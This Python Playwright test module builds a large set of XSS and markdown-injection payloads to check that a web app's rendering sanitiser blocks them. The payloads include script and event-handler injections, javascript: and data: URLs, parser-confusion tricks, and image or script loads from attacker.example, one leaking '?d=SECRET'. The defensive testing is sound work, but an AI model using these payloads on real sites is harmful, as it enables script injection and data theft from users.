"""Hostile text: some written by hand, and every way to run script laid into every place that markup has for it."""

import re

import pytest
from playwright.sync_api import Page

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://attacker.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://attacker.example/a.mp3 autoplay>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://attacker.example/e.swf>",
    "<link rel=stylesheet href=https://attacker.example/s.css>",
    "<style>@import 'https://attacker.example/s.css';</style>",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action=https://attacker.example/><input name=x autofocus onfocus=alert(1)></form>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "'\"><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://attacker.example/1)",
    "[x](//attacker.example/)",
    "[x](/\\attacker.example/)",
    "[x](https://good.example@attacker.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[![x](https://attacker.example/p.png)](javascript:alert(1))",
]
PICTURES = [
    "![x](https://attacker.example/p.png?d=SECRET)",
    "![x](//attacker.example/p.png)",
    "![x](/\\attacker.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][y]\n\n[y]: https://attacker.example/p.png",
    "![x](https://attacker.example/p.png 'onerror=alert(1)')",
    '![x"onerror="alert(1)](/x.png)',
    "![x](https://127.0.0.1@attacker.example/p.png)",
    "![x](http://attacker.example:80/p.png)",
    "| ![x](https://attacker.example/p.png) |\n|---|\n| ![x](https://attacker.example/q.png) |",
    "- ![x](https://attacker.example/p.png)\n  > ![x](https://attacker.example/q.png)",
]
WRITTEN = [*SCRIPTS, *LINKS, *PICTURES]

# What calls alert, or the attacker's site, once it becomes an element.
ELEMENTS = (
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//attacker.example/x.js></script>",
    "<script/x>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img srcset='https://attacker.example/p.png 1x'>",
    "<image href=https://attacker.example/p.png>",
    "<svg><image href=https://attacker.example/p.png /></svg>",
    "<svg><use href=https://attacker.example/u.svg#a /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<input autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1) formaction=javascript:alert(1)>x</button>",
    "<p style='background:url(https://attacker.example/p.png)' onanimationstart=alert(1)>x</p>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=x onclick=alert(1) onmouseover=alert(1) tabindex=1>x</a>",
    "<a href=x ping=https://attacker.example/ping>x</a>",
    "<div contenteditable onfocus=alert(1) autofocus>x</div>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<table background=https://attacker.example/p.png><td>x</table>",
    "<portal src=https://attacker.example/></portal>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<video poster=https://attacker.example/p.png controls></video>",
)
# Where an element may stand so that a reader of markup lets go of it.
AROUND_ELEMENTS = (
    "{0}",
    "'\">{0}<x y=\"'",
    "</title></style></textarea></template></noscript>{0}",
    "<!-->{0}<!---->",
    "text **bold {0} bold** `code` {0}",
    "| a | b |\n|---|---|\n| {0} | x |",
    "- item\n  > quoted {0}\n\n1. {0}",
    "```\n```\n{0}\n```html\n{0}",
    "[{0}](https://good.example/ '{0}')",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&Tab;:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://good.example/%0Aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;utf8,<svg onload=alert(1)>",
    "vbscript:alert(1)",
    "view-source:javascript:alert(1)",
    "filesystem:https://attacker.example/x",
    "///attacker.example/p.png",
    "\\/attacker.example/p.png",
    "https:attacker.example/p.png",
    "https:/\\attacker.example/p.png",
    "https://attacker.example%00.good.example/p.png",
)
AROUND_ADDRESSES = (
    "[x]({0})",
    "![x]({0})",
    "[![x]({0})]({0})",
    "<{0}>",
    "[x][y]\n\n[y]: {0}",
    "<a href='{0}'>x</a><img src='{0}'>",
)

# What each payload holds, and shows where it is shown as text.
HARM = re.compile("alert|attacker|msgbox|PHNjcmlwdD")


def every() -> list[str]:
    """What was written, every element in every place, and every address in every link; each once."""
    elements = (place.format(element) for element in ELEMENTS for place in AROUND_ELEMENTS)
    addresses = (place.format(address) for address in ADDRESSES for place in AROUND_ADDRESSES)
    return list(dict.fromkeys([*WRITTEN, *elements, *addresses]))


def batches(metafunc: pytest.Metafunc, size: int, sliced: int) -> None:
    """Parametrise `payloads`: all in groups of `size` with --whole, else `sliced` of the written, evenly spread."""
    if "payloads" not in metafunc.fixturenames:
        return
    groups = [WRITTEN[:: len(WRITTEN) // sliced]]
    if metafunc.config.getoption("whole"):
        payloads = every()
        groups = [payloads[at : at + size] for at in range(0, len(payloads), size)]
    metafunc.parametrize("payloads", groups, ids=[str(number) for number in range(len(groups))])


def address_in(payload: str) -> str:
    """The address of a link or a picture; the payload itself where it is none."""
    return payload.partition("](")[2].rstrip(")") or payload


def watched(page: Page, site: str) -> list[str]:
    """What happens from now on that must not: dialogs, requests to any other site, and what a policy had to stop."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: None if request.url.startswith(f"{site}/") else seen.append(request.url))
    page.on("console", lambda said: seen.append(said.text) if "Content Security Policy" in said.text else None)
    return seen


# Elements and attributes that could run something or call somebody, and addresses that are none of the web.
LIVE_NODES = """(node) => [...node.querySelectorAll("*")].flatMap((one) => [
  ...(/^(script|iframe|object|embed|link|style|base|meta|form|video|audio|template)$/i.test(one.tagName)
    && !one.closest(".comment, .card") ? [one.tagName] : []),
  ...[...one.attributes].filter((each) => each.name.startsWith("on")).map((each) => each.name),
  ...(one.href && new URL(one.href).protocol.startsWith("http") === false ? [one.href] : []),
])"""
FOLLOW_EVERY_LINK = """(node) => {
  const stay = (event) => /^https?:/.test(event.target.closest("a")?.href) && event.preventDefault();
  node.addEventListener("click", stay);
  for (const link of node.querySelectorAll("a")) { link.target = "_self"; link.click(); }
}"""
